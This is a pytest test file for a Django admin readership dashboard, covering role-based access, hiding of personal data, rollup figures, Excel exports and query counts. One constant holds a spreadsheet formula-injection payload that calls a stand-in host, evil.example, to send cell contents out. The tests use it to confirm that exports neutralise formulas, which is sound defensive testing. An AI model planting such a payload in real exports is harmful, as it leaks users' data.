"""数据看板 (/admin/insight/): who opens it and what each sees, the figures against the rollup
rows they come from, the Excel downloads, bad parameters, and its fixed number of queries.

The rollup rows are made directly (`build`), with figures simple enough to check by hand:
every issue could be read by 30 subscribers (10 leaders in 魏都区, 20 enterprises in 市直); 3
opened it on day 0 by e-mail, 4 on day 2 through a WeCom group, 2 on day 5 directly and 1 on
day 10 through a DingTalk group. So its 1/3/7-day reach is 10.0% / 23.3% / 30.0%; leaders'
30.0% / 30.0% / 30.0%, enterprises' 0.0% / 20.0% / 30.0%. One test goes the whole way from
readings instead (tests/insight/seeding.py, rolled up by apps.insight.rollups).
"""

import html
import io
import json
import re
from datetime import timedelta
from types import SimpleNamespace

import pytest
import time_machine
from django.core.cache import caches
from django.urls import reverse
from django.utils import timezone
from django_otp import DEVICE_ID_SESSION_KEY
from django_otp.plugins.otp_totp.models import TOTPDevice
from openpyxl import load_workbook

from apps.articles.models import Article, Industry
from apps.core.via import Source
from apps.feedback.models import Feedback
from apps.insight import tables
from apps.insight.models import (
    ArticleMonth,
    IndustryMonth,
    IssueAudience,
    IssueReach,
    ReaderSeen,
    RollupMark,
)
from apps.issues.models import Issue
from apps.readership.models import Reading
from apps.subscribers.models import Subscriber
from tests.conftest import member_of
from tests.factories import (
    ArticleFactory,
    IssueFactory,
    StaffFactory,
    SubscriberFactory,
    UserFactory,
)
from tests.insight.seeding import seed
from tests.security.test_exports import assert_no_formula

pytestmark = pytest.mark.django_db

DASHBOARD = "/admin/insight/"
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"点此")'
LEADER_NAMES = ("郑", "卫国")  # last, first: a leader's name, which reviewers never see
LEADER_ORGANIZATION = "许昌市某某局看板测试"
SILENT_ORGANIZATION = "长期未读示例有限公司"

REACH = [
    # day, kind, region, channel, readers
    (0, "leadership", "weidu", Source.EMAIL, 3),
    (2, "enterprise", "city", Source.WECOM, 4),
    (5, "enterprise", "city", Source.DIRECT, 2),
    (10, "enterprise", "city", Source.DINGTALK, 1),
]


def build(size: int = 2, *, now=None) -> SimpleNamespace:
    """`size` live issues (weekly, the last a week ago), two articles each, `size` leaders
    and `size` silent readers, `size` messages this month; one article titled as a formula."""
    now = now or timezone.now()
    month = timezone.localdate(now).replace(day=1)
    industries = list(Industry.objects.order_by("group__order", "order", "pk")[:3])
    issues, articles = [], []
    for n in range(size):
        went_live = now - timedelta(days=7 * (size - n))
        issue = IssueFactory(
            year=2031,
            number=n + 1,
            status=Issue.Status.PUBLISHED,
            published_at=went_live - timedelta(minutes=1),
            went_live_at=went_live,
        )
        issues.append(issue)
        for position in (1, 2):
            title = HOSTILE_TITLE if (n, position) == (size - 1, 1) else f"看板文章{n}-{position}"
            article = ArticleFactory(
                issue=issue, position=position, status=Article.Status.PUBLISHED, title=title
            )
            article.industries.set(industries[:position])
            articles.append(article)
        IssueAudience.objects.bulk_create(
            [
                IssueAudience(issue=issue, kind="leadership", region="weidu", eligible=10),
                IssueAudience(issue=issue, kind="enterprise", region="city", eligible=20),
            ]
        )
        IssueReach.objects.bulk_create(
            [
                IssueReach(
                    issue=issue, day=day, kind=kind, region=region, channel=channel, readers=n
                )
                for day, kind, region, channel, n in REACH
            ]
        )
    # Readers this month: the hostile article the most (50), the others 1, 2, 3…
    ArticleMonth.objects.bulk_create(
        [
            ArticleMonth(
                article=article,
                month=month,
                readers=50 if article.title == HOSTILE_TITLE else index + 1,
            )
            for index, article in enumerate(articles)
        ]
    )
    IndustryMonth.objects.bulk_create(
        [
            IndustryMonth(industry=industries[0], month=month, readings=40, by_followers=10),
            IndustryMonth(industry=industries[1], month=month, readings=8, by_followers=8),
        ]
    )
    leaders = []
    for n in range(size):
        last, first = LEADER_NAMES if n == 0 else ("领导", f"{n}号")
        sub = SubscriberFactory(
            user__username=f"board_leader{n}",
            user__last_name=last,
            user__first_name=first,
            kind=Subscriber.Kind.LEADERSHIP,
            organization=LEADER_ORGANIZATION,
            position="局长",
        )
        leaders.append(sub.user)
        ReaderSeen.objects.create(user=sub.user, last_read_at=now - timedelta(days=1))
    # The first leader opened the last issue (an article of it).
    Reading.objects.create(
        user=leaders[0],
        issue=issues[-1],
        article=articles[-1],
        first_read_at=now - timedelta(days=2),
        last_read_at=now - timedelta(days=2),
    )
    silent = []
    for n in range(size):
        sub = SubscriberFactory(
            user__username=f"board_silent{n}",
            user__last_name="冷",
            user__first_name=f"读者{n}",
            user__mobile=f"1390000{n:04d}",
            kind=Subscriber.Kind.ENTERPRISE,
            organization=SILENT_ORGANIZATION,
            phone="0374-1234567",
        )
        silent.append(sub.user)
        if n:
            ReaderSeen.objects.create(user=sub.user, last_read_at=now - timedelta(days=200))
    author = UserFactory(username="board_author")
    created = []
    for n in range(size):
        created.append(Feedback.objects.create(author=author, message=f"留言{n}"))
    # The first answered at once, the others not yet.
    first = created[0]
    first.reply = "已处理"
    first.save()
    RollupMark.objects.update_or_create(pk=1, defaults={"read_after": now - timedelta(minutes=5)})
    return SimpleNamespace(
        now=now,
        month=month,
        issues=issues,
        articles=articles,
        industries=industries,
        leaders=leaders,
        silent=silent,
    )


# --- Helpers -----------------------------------------------------------------------------------

# What a reviewer must never find: the seeded people's names, accounts, organizations, contacts.
PEOPLE = [
    "郑卫国",
    "board_leader0",
    LEADER_ORGANIZATION,
    SILENT_ORGANIZATION,
    "冷读者0",
    "board_silent0",
    "13900000000",
    "0374-1234567",
    "board_silent0@example.com",
]
TOTALS_TABLES = [
    "reach",
    "reach_kind",
    "reach_region",
    "channels",
    "industries",
    "followers",
    "top_articles",
    "feedback",
]
PEOPLE_TABLES = ["leaders", "silent"]


def chart_data(response) -> dict:
    match = re.search(
        r'<script id="insight-data" type="application/json">(.*?)</script>',
        response.content.decode(),
        re.S,
    )
    assert match, "the charts' JSON block"
    return json.loads(match[1])


def table(response, name) -> list[list[str]]:
    """A table of the page as its cells' text, header row first."""
    match = re.search(
        rf'<table class="insight-table" id="table-{name}">(.*?)</table>',
        response.content.decode(),
        re.S,
    )
    assert match, name
    rows = re.findall(r"<tr>(.*?)</tr>", match[1], re.S)
    return [
        [
            html.unescape(re.sub(r"<[^>]+>", "", cell)).strip()
            for cell in re.findall(r"<t[hd][^>]*>(.*?)</t[hd]>", row, re.S)
        ]
        for row in rows
    ]


def heading(response, name) -> str:
    match = re.search(rf'<h3 id="title-{name}">(.*?)</h3>', response.content.decode())
    assert match, name
    return html.unescape(match[1])


def workbook(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml"
    )
    assert response["Content-Disposition"].startswith("attachment; filename*=UTF-8''")
    return load_workbook(io.BytesIO(response.content))


def messages_of(response) -> list[str]:
    return [str(message) for message in response.context["messages"]]


@pytest.fixture
def data():
    return build(3)


@pytest.fixture
def superuser():
    return StaffFactory(username="root", is_superuser=True)


# --- Who opens it ------------------------------------------------------------------------------


def test_reviewers_subscriber_admins_and_superusers_open_it_and_nobody_else(
    client, data, editor, reviewer, subadmin, superuser
):
    signer = member_of("签发", "signer1")
    no_role = StaffFactory(username="norole")
    subscriber = data.leaders[0]
    for user, status in [
        (editor, 403),
        (signer, 403),
        (no_role, 403),
        (reviewer, 200),
        (subadmin, 200),
        (superuser, 200),
    ]:
        client.force_login(user)
        response = client.get(DASHBOARD)
        assert response.status_code == status, user
        page = response.content.decode()
        if status == 403:
            assert "无权访问" in page  # the site's own 403, in Chinese
            assert "2031年第3期" not in page
            assert client.get(DASHBOARD + "?download=reach").status_code == 403
        # The admin's user links lead there for those who may open it.
        index = client.get(reverse("admin:index")).content.decode()
        assert (f'href="{DASHBOARD}"' in index) == (status == 200), user
    # A reader (no staff account) and a visitor are sent to the back office's login.
    for user in (subscriber, None):
        client.logout()
        if user is not None:
            client.force_login(user)
        response = client.get(DASHBOARD)
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("admin:login"))


def test_staff_without_their_second_factor_are_not_staff(client, settings, data, subadmin):
    settings.OTP_REQUIRED = True
    client.force_login(subadmin)  # a password alone
    for url in (DASHBOARD, DASHBOARD + "?download=silent"):
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("admin:login"))
    device = TOTPDevice.objects.create(user=subadmin, name="身份验证器", confirmed=True)
    session = client.session
    session[DEVICE_ID_SESSION_KEY] = device.persistent_id
    session.save()
    response = client.get(DASHBOARD)
    assert response.status_code == 200
    assert "郑卫国" in response.content.decode()


def test_reviewers_see_totals_and_never_a_person(client, data, reviewer):
    client.force_login(reviewer)
    response = client.get(DASHBOARD)

    page = response.content.decode()
    for text in PEOPLE:
        assert text not in page, text
    charts = json.dumps(chart_data(response), ensure_ascii=False)
    for text in PEOPLE:
        assert text not in charts, text
    assert "领导阅读与回访" not in page and "table-leaders" not in page
    # Totals are all there.
    went_live = timezone.localdate(data.issues[0].went_live_at)
    assert table(response, "reach")[1][:3] == ["2031年第1期", f"{went_live:%Y-%m-%d}", "30"]
    for name in TOTALS_TABLES:
        sheet = workbook(client.get(DASHBOARD, {"download": name}))
        cells = " ".join(
            str(value)
            for ws in sheet.worksheets
            for row in ws.iter_rows(values_only=True)
            for value in row
        )
        for text in PEOPLE:
            assert text not in cells, (name, text)
    for name in PEOPLE_TABLES:
        response = client.get(DASHBOARD, {"download": name})
        assert response.status_code == 403
        assert "无权访问" in response.content.decode()


def test_subscriber_admins_see_each_leader_and_who_has_not_read(
    client, data, subadmin, monkeypatch
):
    client.force_login(subadmin)
    response = client.get(DASHBOARD)

    leaders = table(response, "leaders")
    assert leaders[0] == [
        "姓名", "单位", "职务", "地区", "2031年第1期", "2031年第2期", "2031年第3期", "已读期数"
    ]  # fmt: skip
    assert ["郑卫国", LEADER_ORGANIZATION, "局长", "魏都区", "未读", "未读", "已读", "1"] in leaders
    assert [
        "领导1号",
        LEADER_ORGANIZATION,
        "局长",
        "魏都区",
        "未读",
        "未读",
        "未读",
        "0",
    ] in leaders
    assert len(leaders) == 1 + 3
    silent = table(response, "silent")
    # Never read (no record), and read 200 days ago; every leader read yesterday.
    by_name = {row[1]: row for row in silent[1:]}
    assert set(by_name) == {"board_silent0", "board_silent1", "board_silent2"}
    assert by_name["board_silent0"] == [
        "冷读者0", "board_silent0", "企业", SILENT_ORGANIZATION, "", "魏都区",
        "0374-1234567", "13900000000", "board_silent0@example.com", "无记录",
    ]  # fmt: skip
    long_ago = timezone.localtime(data.now - timedelta(days=200))
    assert by_name["board_silent1"][-1] == f"{long_ago:%Y-%m-%d %H:%M}"

    grid = workbook(client.get(DASHBOARD, {"download": "leaders"})).active
    rows = list(grid.iter_rows(values_only=True))
    assert ("郑卫国", LEADER_ORGANIZATION, "局长", "魏都区", "未读", "未读", "已读", 1) in rows
    follow_up = workbook(client.get(DASHBOARD, {"download": "silent"})).active
    assert "board_silent0@example.com" in [row[8] for row in follow_up.iter_rows(values_only=True)]

    # A long list: the page shows its beginning, the download all of it.
    monkeypatch.setattr(tables, "SILENT_SHOWN", 2)
    response = client.get(DASHBOARD)
    assert len(table(response, "silent")) == 1 + 2
    assert "页面只列出前 2 行（共 3 行）" in response.content.decode()
    follow_up = workbook(client.get(DASHBOARD, {"download": "silent"})).active
    assert follow_up.max_row == 1 + 3


# --- The figures ---------------------------------------------------------------------------------


def test_figures_are_those_of_the_rollups(client, data, superuser):
    client.force_login(superuser)
    response = client.get(DASHBOARD)
    issues = ["2031年第1期", "2031年第2期", "2031年第3期"]

    reach = table(response, "reach")
    assert reach[0] == [
        "期刊", "上线日期", "可阅读人数", "7天内阅读人数",
        "1天内到达率", "3天内到达率", "7天内到达率",
    ]  # fmt: skip
    assert [row[0] for row in reach[1:]] == issues  # the oldest first, as the line reads
    assert {tuple(row[2:]) for row in reach[1:]} == {("30", "9", "10.0%", "23.3%", "30.0%")}
    assert table(response, "reach_kind")[1:3] == [
        ["2031年第1期", "领导", "10", "30.0%", "30.0%", "30.0%"],
        ["2031年第1期", "企业", "20", "0.0%", "20.0%", "30.0%"],
    ]
    assert table(response, "reach_region")[1:3] == [
        ["2031年第1期", "魏都区", "10", "30.0%", "30.0%", "30.0%"],
        ["2031年第1期", "市直", "20", "0.0%", "20.0%", "30.0%"],
    ]
    channels = table(response, "channels")
    assert channels[0] == ["期刊", "邮件", "企业微信群", "钉钉群", "飞书群", "直接访问", "合计"]
    assert channels[3] == ["2031年第3期", "3", "4", "1", "0", "2", "10"]

    first, second = data.industries[0].name, data.industries[1].name
    month = f"{data.month.year}年{data.month.month}月"
    industries = table(response, "industries")
    assert industries[0][-2:] == [month, "合计"]  # the last 12 months, this one last
    assert len(industries[0]) == 1 + 12 + 1
    assert industries[1][0] == first and industries[1][-2:] == ["40", "40"]
    assert industries[2][0] == second and industries[2][-2:] == ["8", "8"]
    assert table(response, "followers")[1:] == [
        [first, "40", "10", "25.0%"],
        [second, "8", "8", "100.0%"],
    ]
    top = table(response, "top_articles")
    assert top[1] == [
        "1",
        HOSTILE_TITLE,
        "2031年第3期",
        "50",
    ]
    assert [row[3] for row in top[1:]] == ["50", "6", "4", "3", "2", "1"]
    feedback = table(response, "feedback")
    assert feedback[-1] == [month, "3", "1", "33.3%"]

    # The charts draw the same figures.
    charts = {chart["table"]: chart for chart in chart_data(response)["charts"]}
    assert set(charts) == set(TOTALS_TABLES)
    assert charts["reach"]["categories"] == issues
    assert charts["reach"]["series"] == [
        {"name": "1天内", "data": [10.0] * 3},
        {"name": "3天内", "data": [23.3] * 3},
        {"name": "7天内", "data": [30.0] * 3},
    ]
    assert charts["reach_kind"]["byDays"]["3"] == [
        {"name": "领导", "data": [30.0] * 3},
        {"name": "企业", "data": [20.0] * 3},
    ]
    assert charts["channels"]["series"][0] == {"name": "邮件", "data": [3, 3, 3]}
    assert charts["top_articles"]["categories"][0] == HOSTILE_TITLE
    assert charts["feedback"]["series"][1]["data"][-1] == 33.3
    # The summary above them.
    page = response.content.decode()
    assert "最近一期（2031年第3期）7天内到达率</dt><dd>30.0%" in page


def test_from_readings_to_the_dashboard(client, subadmin):
    """The readings of tests/insight/seeding.py, rolled up by apps.insight.rollups."""
    seed()
    client.force_login(subadmin)
    response = client.get(DASHBOARD)

    # Each reader once, under the channel of their first opening of the issue or an article.
    channels = {row[0]: row[1:] for row in table(response, "channels")[1:]}
    assert channels == {
        "2030年第1期": ["2", "1", "1", "1", "2", "7"],
        "2030年第2期": ["1", "1", "1", "0", "2", "5"],
        "2030年第3期": ["1", "0", "0", "1", "1", "3"],
    }  # and the scheduled 第4期 is not there yet
    grid = {row[0]: row[4:] for row in table(response, "leaders")[1:]}
    assert grid == {
        "leader_city": ["已读", "已读", "已读", "3"],
        "leader_weidu": ["已读", "已读", "未读", "2"],
    }


def test_a_cached_dashboard_follows_the_rollups_and_the_titles(client, data, reviewer):
    client.force_login(reviewer)
    assert table(client.get(DASHBOARD), "channels")[3][-1] == "10"

    # A rollup rebuilt (any write to a rollup table), an article renamed: the next request
    # shows them, whoever made the change and however.
    IssueReach.objects.filter(issue=data.issues[-1], channel=Source.EMAIL).update(readers=13)
    Article.objects.filter(title=HOSTILE_TITLE).update(title="改过的标题")
    response = client.get(DASHBOARD)

    assert table(response, "channels")[3][1:] == ["13", "4", "1", "0", "2", "20"]
    assert table(response, "top_articles")[1][1] == "改过的标题"
    # An issue going live by the clock (scheduled: no write when its time comes) is there
    # from that time on.
    soon = timezone.now() + timedelta(minutes=1)
    later = IssueFactory(
        year=2031,
        number=9,
        status=Issue.Status.PUBLISHED,
        published_at=soon,
        went_live_at=soon,
    )
    IssueAudience.objects.create(issue=later, kind="leadership", region="weidu", eligible=5)
    assert "2031年第9期" not in client.get(DASHBOARD).content.decode()
    with time_machine.travel(soon + timedelta(seconds=1), tick=False):
        assert "2031年第9期" in client.get(DASHBOARD).content.decode()


# --- Downloads ---------------------------------------------------------------------------------


def test_each_table_downloads_as_excel_and_no_cell_is_a_formula(client, data, superuser):
    client.force_login(superuser)
    page = client.get(DASHBOARD)
    for name in TOTALS_TABLES + PEOPLE_TABLES:
        on_page = table(page, name)
        book = workbook(client.get(DASHBOARD, {"download": name}))
        assert_no_formula(book)
        sheet = book.worksheets[0]
        rows = list(sheet.iter_rows(values_only=True))
        assert list(rows[0]) == on_page[0], name  # the same columns as the page
        assert len(rows) == len(on_page), name  # and the same rows
        assert sheet.title == heading(page, name)[:31]
        assert book["说明"]["A1"].value == heading(page, name)  # what the figures mean

    top = workbook(client.get(DASHBOARD, {"download": "top_articles"})).worksheets[0]
    assert top["B2"].value == "'" + HOSTILE_TITLE  # shown as the text it is
    assert top["B2"].data_type == "s"
    reach = workbook(client.get(DASHBOARD, {"download": "reach"})).worksheets[0]
    # Shares are numbers, shown as percentages.
    assert reach["E2"].value == pytest.approx(0.1)
    assert reach["E2"].number_format == "0.0%"
    assert reach["G2"].value == pytest.approx(0.3)


def test_a_chosen_period_reaches_the_downloads(client, data, superuser):
    client.force_login(superuser)
    start = (data.month - timedelta(days=1)).replace(day=1)
    period = {"start": f"{start:%Y-%m}", "end": f"{data.month:%Y-%m}"}
    response = client.get(DASHBOARD, period)
    assert table(response, "industries")[0] == [
        "产业", f"{start.year}年{start.month}月", f"{data.month.year}年{data.month.month}月", "合计"
    ]  # fmt: skip
    link = f"?start={start:%Y-%m}&amp;end={data.month:%Y-%m}&amp;download=industries"
    assert link in response.content.decode()
    book = workbook(client.get(DASHBOARD, {**period, "download": "industries"}))
    assert book.worksheets[0].max_column == 4
    assert f"{start.year}年{start.month}月" in book["说明"]["A2"].value
    # A month with nothing read: the tables say so, and the charts are not drawn.
    empty = (start - timedelta(days=1)).replace(day=1)
    response = client.get(DASHBOARD, {"start": f"{empty:%Y-%m}", "end": f"{empty:%Y-%m}"})
    charts = {chart["table"] for chart in chart_data(response)["charts"]}
    assert "top_articles" not in charts and "industries" not in charts
    assert "暂无数据" in response.content.decode()


# --- Bad parameters ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ({"start": "2026-13"}, "月份无效"),
        ({"start": "abc", "end": "2026-01"}, "月份无效"),
        ({"end": "0001-01"}, "月份无效"),
        ({"start": "2026-05-01"}, "月份无效"),
        ({"start": "２０２６-０１"}, "月份无效"),
        ({"start": "2020-05", "end": "2020-01"}, "开始月份不能晚于结束月份"),
        ({"start": "2010-01", "end": "2020-01"}, "最长 36 个月"),
        ({"end": "2099-01"}, "结束月份不能晚于本月"),
        ({"download": "nothing"}, "没有这个表格"),
        ({"download": "reach", "start": "x"}, "月份无效"),
    ],
)
def test_bad_parameters_show_the_default_with_a_message(client, data, reviewer, query, message):
    client.force_login(reviewer)
    response = client.get(DASHBOARD, query)

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")
    assert any(message in text for text in messages_of(response))
    # The last 12 months, this one last.
    assert table(response, "industries")[0][-2] == f"{data.month.year}年{data.month.month}月"
    assert len(table(response, "industries")[0]) == 14


def test_only_reading_is_allowed(client, data, superuser):
    client.force_login(superuser)
    assert client.post(DASHBOARD).status_code == 405


# --- Cost ------------------------------------------------------------------------------------


@pytest.mark.parametrize("size", [2, 12])
def test_a_fixed_number_of_queries_whatever_the_data(
    client, django_assert_num_queries, size, reviewer, subadmin
):
    build(size)
    for user, cold, warm in [
        # The counters (1), the viewer's permissions (2); issues, audience, reach by day and by
        # channel, industries, industries by month, top articles (7: kept until the counters
        # move); feedback (1), the rollups' mark (1).
        (reviewer, 1 + 2 + 7 + 2, 1 + 2 + 2),
        # … and for subscriber administrators the leaders, their readings of the last six
        # issues, and the readers who read nothing in 90 days (3, never kept).
        (subadmin, 1 + 2 + 7 + 2 + 3, 1 + 2 + 2 + 3),
    ]:
        client.force_login(user)
        caches["local"].clear()  # no dashboard kept from the user before
        client.get(reverse("admin:index"))  # the session and the user into the cache
        with django_assert_num_queries(cold):
            assert client.get(DASHBOARD).status_code == 200
        with django_assert_num_queries(warm):
            assert client.get(DASHBOARD).status_code == 200
